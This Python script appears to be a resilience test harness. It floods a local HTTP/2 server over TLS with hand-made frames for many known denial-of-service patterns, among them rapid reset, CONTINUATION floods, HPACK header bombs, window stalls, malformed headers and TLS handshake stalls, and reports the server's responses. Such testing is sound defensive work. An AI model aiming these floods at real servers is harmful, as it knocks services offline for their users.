# SPDX-License-Identifier: Apache-2.0
"""Clients that mean harm, on TLS and HTTP/2: python3 attack_http2.py ATTACK PORT [--count N] [--seconds S].

N threads each hold a connection that behaves as ATTACK says, and open another when the server closes it. Prints one JSON object
at the end: how many connections were opened and closed by the server, how many frames and bytes went there, and the codes of the
GOAWAYs that came. The frames are made by hand (RFC 9113), as no library would send most of them.
"""

import argparse
import collections
import json
import os
import random
import socket
import ssl
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def settings(**values):
    numbers = dict(table=1, push=2, streams=3, window=4, frame=5, head=6)
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", numbers[name], value) for name, value in values.items()))


def text(value):
    """A string without Huffman coding (RFC 7541, section 5.2)."""
    prefix = bytes([len(value)]) if len(value) < 127 else b"\x7f" + varint(len(value) - 127)
    return prefix + value


def varint(value):
    out = b""
    while value >= 128:
        out += bytes([value % 128 + 128])
        value //= 128
    return out + bytes([value])


def field(name, value):
    return b"\0" + text(name) + text(value)


def head(path=b"/feeds/orders?since=earliest", method=b"\x82", more=b""):
    return method + b"\x87" + b"\x04" + text(path) + b"\x01" + text(b"a") + more


def get(stream, path=b"/feeds/orders?since=earliest", more=b"", flags=END_STREAM | END_HEADERS):
    return frame(HEADERS, flags, stream, head(path, more=more))


POST = b"\x83"


class Connection:
    """One connection: its socket, and the stream ids that it has used."""

    def __init__(self, port, seconds, alpn=("h2",), tls=True, reads=True):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=seconds)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if not reads:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        if tls:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols(list(alpn))
            self.socket = context.wrap_socket(self.socket, server_hostname="localhost")
        self.streams = 1
        self.frames = self.sent = 0

    def next(self):
        self.streams += 2
        return self.streams - 2

    def send(self, *frames):
        data = b"".join(frames)
        self.socket.sendall(data)
        self.frames += len(frames)
        self.sent += len(data)


def read(connection, codes, stop):
    """Takes what comes, and notes the codes of GOAWAYs and how many streams were reset."""
    rest = b""
    try:
        while not stop.is_set():
            data = connection.socket.recv(65536)
            if not data:
                break
            rest += data
            while len(rest) >= 9 and len(rest) >= 9 + int.from_bytes(rest[:3], "big"):
                length = int.from_bytes(rest[:3], "big")
                if rest[3] == GOAWAY:
                    codes[f"goaway {int.from_bytes(rest[13:17], 'big')}"] += 1
                elif rest[3] == RST_STREAM:
                    codes["reset"] += 1
                elif rest[3] == HEADERS:
                    codes["answers"] += 1
                rest = rest[9 + length :]
    except OSError:
        pass


# Each attack sends on a connection until the server closes it: it yields lists of frames.


def rapid_reset(connection):
    while True:
        stream = connection.next()
        yield get(stream), frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def rapid_reset_short(connection):
    while True:
        stream = connection.next()
        yield get(stream, b"/metrics"), frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def made_you_reset(connection):
    """Has the server reset streams: it counts them as closed, and goes on with what it began."""
    while True:
        stream = connection.next()
        yield get(stream), frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


def settings_flood(_connection):
    while True:
        yield (settings(window=random.randrange(1 << 16)),) * 50


def table_flood(_connection):
    while True:
        yield (settings(table=0), settings(table=4096)) * 25


def ping_flood(_connection):
    while True:
        yield (frame(PING, 0, 0, b"12345678"),) * 50


def continuation_flood(connection):
    yield (get(connection.next(), flags=END_STREAM),)
    while True:
        yield (frame(CONTINUATION, 0, 1, field(b"x", b"y" * 100) * 100),)


def empty_continuations(connection):
    yield (get(connection.next(), flags=END_STREAM),)
    while True:
        yield (frame(CONTINUATION, 0, 1),) * 50


def empty_data(connection):
    stream = connection.next()
    yield (frame(HEADERS, END_HEADERS, stream, head(b"/nothing", POST)),)
    while True:
        yield (frame(DATA, 0, stream),) * 50


def bodies(connection):
    while True:
        stream = connection.next()
        yield frame(HEADERS, END_HEADERS, stream, head(b"/nothing", POST)), frame(DATA, 0, stream, b"x" * 16000)


def priority_flood(_connection):
    while True:
        yield tuple(frame(PRIORITY, 0, random.randrange(1, 1 << 20, 2), struct.pack(">IB", 0, 1)) for _ in range(50))


def unknown_frames(_connection):
    while True:
        yield (frame(0xEE, 0xFF, 0, b"x" * 1000),) * 20


def window_flood(connection):
    yield (get(connection.next()),)
    while True:
        yield (frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)),) * 50


def window_overflow(connection):
    yield (get(connection.next()),)
    yield (frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)),) * 2
    while True:
        yield (frame(PING, 0, 0, b"12345678"),)


def header_bomb(connection):
    """A field of 4,000 bytes in the table, named again and again by one byte each."""
    while True:
        stream = connection.next()
        yield get(stream, more=b"\x40" + text(b"x") + text(b"y" * 3900) + b"\xbe" * 12000), frame(PING, 0, 0, b"12345678")


def many_fields(connection):
    while True:
        yield (get(connection.next(), b"/healthz", more=field(b"a", b"b") * 2500),)


def odd_heads(connection):
    """Heads that an HTTP/1 parser would refuse."""
    odd = [
        field(b"x", b"a\r\nb: c"), field(b"X", b"y"), field(b"x y", b"z"), field(b"connection", b"close"),
        field(b"transfer-encoding", b"chunked"), field(b"content-length", b"5") * 2, b"\x82", field(b":odd", b"x"),
        field(b"te", b"gzip"), field(b"host", b"b"), field(b"", b"x"), field(b"x", b"\0"),
    ]  # fmt: skip
    while True:
        yield (get(connection.next(), b"/healthz", more=random.choice(odd)),)


def zero_window(connection):
    """Streams of which the client never takes a byte."""
    yield (settings(window=0),)
    for _ in range(500):
        yield (get(connection.next()),)
        time.sleep(0.001)
    while True:
        time.sleep(0.2)
        yield (frame(PING, 0, 0, b"12345678"),)


def tiny_window(connection):
    """A byte at a time."""
    yield (settings(window=1),)
    for _ in range(100):
        yield (get(connection.next()),)
    while True:
        time.sleep(0.01)
        yield tuple(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in range(1, 201, 2))


def window_swing(connection):
    """The windows of all streams up and down."""
    for _ in range(90):
        yield (get(connection.next()),)
    while True:
        yield settings(window=0x7FFFFFFF), settings(window=0)


def many_streams(connection):
    """As many requests at a time as the client likes, whatever the server said."""
    while True:
        yield tuple(get(connection.next(), b"/feeds/orders") for _ in range(50))


def short_requests(connection):
    while True:
        yield tuple(get(connection.next(), b"/metrics") for _ in range(20))


def garbage(_connection):
    while True:
        yield (os.urandom(1000),)


def huge_frame(connection):
    yield (b"\xff\xff\xff" + bytes([DATA, 0]) + connection.next().to_bytes(4, "big"),)
    while True:
        yield (b"x" * 65536,)


def push_promise(connection):
    while True:
        yield (frame(PUSH_PROMISE, END_HEADERS, connection.next(), b"\0\0\0\2" + head()),)


def old_streams(connection):
    """Ids that go down, even ones, and 0."""
    while True:
        yield (get(random.choice([0, 2, 5, 3, 1, 0x7FFFFFFF])),)


def silent(_connection):
    while True:
        time.sleep(0.2)
        yield ()


ATTACKS = {
    function.__name__.replace("_", "-"): function
    for function in [
        rapid_reset, rapid_reset_short, made_you_reset, settings_flood, table_flood, ping_flood, continuation_flood,
        empty_continuations, empty_data, bodies, priority_flood, unknown_frames, window_flood, window_overflow, header_bomb,
        many_fields, odd_heads, zero_window, tiny_window, window_swing, many_streams, short_requests, garbage, huge_frame,
        push_promise, old_streams, silent,
    ]
}  # fmt: skip
# Variants that take nothing of what the server answers.
ATTACKS |= {f"{name}-unread": ATTACKS[name] for name in ["settings-flood", "ping-flood", "short-requests", "many-streams", "rapid-reset"]}
# Before HTTP/2 begins.
HANDSHAKES = ["tls-silent", "tls-half-hello", "tls-garbage", "tls-connects", "no-preface"]


def handshake(name, port, seconds, figures, stop):
    """A connection that doesn't get as far as HTTP/2."""
    connection = socket.create_connection(("127.0.0.1", port), timeout=seconds)
    figures["opened"] += 1
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(32) + b"\x00"
    if name == "tls-connects":
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.wrap_socket(connection, server_hostname="localhost").close()
        return
    if name == "no-preface":
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        connection = context.wrap_socket(connection, server_hostname="localhost")
        connection.sendall(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")
    elif name == "tls-half-hello":
        connection.sendall(hello)
    elif name == "tls-garbage":
        connection.sendall(os.urandom(2000))
    connection.settimeout(0.2)
    while not stop.is_set():
        try:
            if not connection.recv(65536):
                figures["closed"] += 1
                break
        except TimeoutError:
            if name == "tls-half-hello":
                connection.sendall(b"\0")
    connection.close()


def run(name, port, seconds, figures, codes, stop):
    function, reads = ATTACKS[name], not name.endswith("-unread")
    connection = Connection(port, seconds, reads=reads)
    figures["opened"] += 1
    if reads:
        threading.Thread(target=read, args=(connection, codes, stop), daemon=True).start()
    try:
        connection.send(PREFACE, settings())
        for frames in function(connection):
            if stop.is_set() or connection.streams > 0x7FFFFF00:
                break
            connection.send(*frames)
    except OSError:
        figures["closed"] += not stop.is_set()
    finally:
        figures["frames"] += connection.frames
        figures["bytes"] += connection.sent
        connection.socket.close()


def work(name, port, seconds, figures, codes, stop):
    while not stop.is_set():
        try:
            if name in HANDSHAKES:
                handshake(name, port, seconds, figures, stop)
            else:
                run(name, port, seconds, figures, codes, stop)
        except OSError:
            figures["failed"] += 1
            time.sleep(0.05)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=[*ATTACKS, *HANDSHAKES], nargs="?")
    parser.add_argument("port", type=int, nargs="?")
    parser.add_argument("--count", type=int)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--list", action="store_true", help="name the attacks and end")
    arguments = parser.parse_args()
    if arguments.list:
        print("\n".join([*ATTACKS, *HANDSHAKES]))
        return
    figures, codes, stop = collections.Counter(), collections.Counter(), threading.Event()
    count = arguments.count or (300 if arguments.attack in HANDSHAKES[:3] else 10)
    threads = [
        threading.Thread(target=work, args=(arguments.attack, arguments.port, arguments.seconds, figures, codes, stop), daemon=True)
        for _ in range(count)
    ]
    for thread in threads:
        thread.start()
    time.sleep(arguments.seconds)
    stop.set()
    deadline = time.monotonic() + 2
    for thread in threads:
        thread.join(max(0, deadline - time.monotonic()))
    print(json.dumps(figures | codes), flush=True)
    os._exit(0)


main()
